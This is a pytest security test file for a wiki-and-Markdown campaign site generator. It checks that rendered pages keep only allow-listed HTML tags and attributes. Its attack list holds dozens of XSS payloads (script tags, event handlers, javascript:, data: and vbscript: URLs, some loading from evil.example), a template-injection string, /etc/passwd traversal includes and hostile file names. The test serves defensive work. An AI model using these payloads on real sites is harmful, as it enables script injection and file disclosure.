"""Nothing that a campaign contains can run a script, load a stranger's page or leave its folder."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from lxml import html as lxml_html
from tests.site.made_sites import attacks, files, make, write

#: Put into wiki pages and into Markdown pages, each on a page of its own.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<img src=`x` onerror=alert(1)//",
    "<img/src/onerror=alert(1)>",
    '<body onload="alert(1)">',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=//evil.example/x.swf>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</article></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'\"--></style></title></textarea><script>alert(1)</script>",
    "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "[javascript:alert(1) x]",
    "[JAVASCRIPT:alert(1) x]",
    "[data:text/html,<script>alert(1)</script> x]",
    '[http://x.example/"onmouseover=alert(1) x]',
    'http://x.example/"onmouseover="alert(1)',
    '[[Ur" onclick="alert(1)|x]]',
    "[[Ur|<img src=x onerror=alert(1)>]]",
    "[[image:javascript:alert(1)]]",
    "{{javascript:alert(1)}}",
    '{{x" onerror="alert(1)}}',
    '{{http://x.example/a.png|x" onerror="alert(1)}}',
    "{{http://x.example/a.svg#<script>}}",
    '[[tag:x" onclick="alert(1)]]',
    "[[tag:<script>alert(1)</script>]]",
    '[[#x" onclick="alert(1)]]',
    '[[anchor:x" onclick="alert(1)]]',
    '== <script>alert(1)</script> "onclick=alert(1)\n\n<toc>',
    '\n<toc/x" onclick="alert(1) "<script>alert(1)</script>">\n\n== Eins',
    '\n<include "../../../../etc/passwd">\n',
    '\n<include "/etc/passwd">\n',
    '\n<include text "<script>">\n',
    '\n<journal 10 ".*" onclick="x">\n',
    '\n<search "<script>alert(1)</script>">\n',
    "\n<rss http://evil.example/feed>\n",
    "\n{{{\n<script>alert(1)</script>\n}}}\n",
    "##<script>alert(1)</script>##",
    "|<script>alert(1)</script> |<img src=x onerror=alert(1)> |",
    "&#60;script&#62;alert(1)&#60;/script&#62; &lt;script&gt;",
    "&#x6A;avascript:alert(1)",
    "Evil:alert(1) [[Evil:alert(1)|x]] [Evil:alert(1) y]",
    "Data:x Html:x Quote:x",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](http://x.example/a.png)',
    '[x](http://x.example/ "y" onclick="alert(1)")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<a href='http://x.example' target=_blank style=position:fixed onclick=alert(1)>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    *attacks(),
]
#: Names that files can have; some lie in folders of a harmless name.
NAMES = [
    "<script>alert(1)<%2Fscript>.txt",
    '" onclick="alert(1).txt',
    "..%2F..%2F..%2Fescaped.txt",
    "%00null.txt",
    "javascript:alert(1).txt",
    "{{ 7*7 }}.txt",
    "index.txt",
    "style.css.txt",
    ".. .txt",
    "a" * 200 + ".txt",
    "style.txt",
    "con.txt",
    "&amp;.txt",
    "\u202egnp.txt",
]
SETTINGS = """title = '"><script>alert(1)</script>'
licence = "<img src=x onerror=alert(1)>"
notices = ["</ul><script>alert(1)</script>"]
language = 'de" onclick="alert(1)'
base_url = 'javascript:alert(1)//"><script>'
"""
INTER_MAP = """
 Evil javascript:%s
 Data data:text/html,<script>alert(1)</script>
 Html <script>
 Proto //evil.example/%s
 Vbs vbscript:%s
 Upper JAVASCRIPT:%s
 Quote "onclick=alert(1)
"""
LOCAL_NAMES = '* [javascript:alert(1) Böse]\n* [http://x.example/"onclick=alert(1) Quote]\n'
TAGS_ALLOWED = """
html head meta title link body a header div nav ul li main p article h1 h2 h3 h4 h5 h6 footer
section span img table thead tbody tr th td pre code strong em i b u s br hr ol dl dt dd small
blockquote del sub sup kbd abbr details summary q cite dfn var samp mark ins bdi bdo ruby rt rp wbr
time tt caption col colgroup tfoot center acronym big strike hgroup figure figcaption area map aside
"""
ATTRIBUTES_ALLOWED = """
lang charset name content http-equiv href rel class id title alt src loading download colspan
rowspan aria-label aria-labelledby aria-current tabindex role start type align width height scope
dir cite datetime summary span headers char charoff hspace size compact clear color usemap shape
coords value reversed open
"""


@pytest.fixture(scope="module", params=["players", "gm"])
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    pages: dict[str, str | bytes] = {
        "campaign.toml": SETTINGS,
        "InterMap.txt": INTER_MAP,
        "LocalNames.txt": LOCAL_NAMES,
        "Weg.txt": "#REDIRECT [[Ur]]\n",
        "Irrweg.txt": "#REDIRECT [[javascript:alert(1)]]\n",
        "Ur.txt": "[[Böse]] [[Quote]] " + " ".join(f"[[wiki {n}]] [[mark {n}]]" for n in range(len(ATTACKS))),
    }
    for number, attack in enumerate(ATTACKS):
        pages[f"wiki_{number}.txt"] = f"{attack}\n\nDanach.\n"
        pages[f"mark_{number}.md"] = f"{attack}\n\nDanach.\n"
    for name in NAMES:
        pages[f"namen/{name}"] = f"[[Ur]] [[tag:{name[:20]}]]\n"
    root = write(tmp_path_factory.mktemp("attacks") / "c", pages)
    make(root, audience=request.param)
    assert {path.name for path in root.parent.iterdir()} == {"c"}
    return root / "_site"


def elements(site: Path) -> Iterator[tuple[str, str, dict[str, str]]]:
    """Give every element of every page, as two parsers see them."""
    for name, data in files(site).items():
        if name.endswith(".html"):
            for tag in BeautifulSoup(data, "html.parser", multi_valued_attributes=None).find_all():
                yield name, tag.name, {key: str(value) for key, value in tag.attrs.items()}
            for element in lxml_html.document_fromstring(data).iter():
                if isinstance(element.tag, str):
                    yield name, element.tag, {str(key): str(value) for key, value in element.items()}


def test_only_harmless_elements_and_attributes(site: Path) -> None:
    for name, tag, attributes in elements(site):
        assert tag in TAGS_ALLOWED.split(), f"<{tag}> in {name}"
        for key in attributes:
            assert key in ATTRIBUTES_ALLOWED.split(), f"{key} of <{tag}> in {name}"


def test_addresses_run_nothing(site: Path) -> None:
    for name, tag, attributes in elements(site):
        for key in ("href", "src", "cite", "content"):
            if key == "content" and attributes.get("http-equiv") != "refresh":
                continue
            address = attributes.get(key, "")
            bare = re.sub(r"[\s\x00-\x20]", "", address).lower()
            assert not re.match(r"(javascript|vbscript|data):", bare), f"{address!r} of <{tag}> in {name}"
            assert "javascript:" not in bare or tag == "a", f"{address!r} of <{tag}> in {name}"
            assert not re.match(r"[/\\\\]{2}", bare), (
                f"{address!r} of <{tag}> in {name} has a host of its own"
            )
            assert key != "src" or not bare.startswith("file:"), f"{address!r} of <{tag}> in {name}"


def test_the_head_is_ours(site: Path) -> None:
    for name, tag, attributes in elements(site):
        if tag == "link":
            assert attributes["rel"] in {"icon", "stylesheet", "canonical"}
            assert "evil" not in attributes["href"], name
        if tag == "meta" and "http-equiv" in attributes:
            ours = {"content-security-policy": r"script-src 'none'", "refresh": r"0; url=[a-z0-9-]+\.html$"}
            assert re.match(ours[attributes["http-equiv"].lower()], attributes["content"]), name


def test_pages_are_not_read_as_templates(site: Path) -> None:
    number = next(number for number, attack in enumerate(ATTACKS) if attack.startswith("{{7*7}}"))
    assert b"{{7*7}}{% for x" in files(site)[f"mark-{number}.html"]
    assert b"{{ 7*7 }}" in files(site)["7-7.html"]


def test_nothing_from_outside_is_in_the_site(site: Path) -> None:
    for name, data in files(site).items():
        assert b"root:x:0" not in data, name
        assert "/" not in name, name


def test_every_name_became_a_harmless_file(site: Path) -> None:
    for name in files(site):
        assert re.fullmatch(r"[a-z0-9.-]+", name), name
        assert len(name) < 130, name
    assert files(site)["style.css"].startswith(b"@charset")
